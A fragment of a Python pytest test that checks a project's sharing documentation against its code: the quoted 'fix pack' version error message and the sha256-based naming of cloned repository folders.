    """docs/sharing.md quotes the message as it is printed (FILE first) and the clone's folder
    name as it is made (the first 16 hex characters of the URL's sha256)."""
    import re

    page = (Path(__file__).resolve().parents[1] / "docs" / "sharing.md").read_text()
    quoted = re.search(r"`(FILE is fix pack version N, [^`]+)`", " ".join(page.split())).group(1)
    with pytest.raises(PackError) as err:
        sharing.parse_pack({"format": sharing.FORMAT, "version": 7}, "FILE")
    assert str(err.value) == quoted.replace(" N,", " 7,")
    url = "https://example.com/packs.git"
    name = sharing.clone_dir(tmp_path, url).name
    assert name == hashlib.sha256(url.encode()).hexdigest()[:16]
    assert "sync/<the first 16 hex characters of the URL's sha256>" in " ".join(page.split())
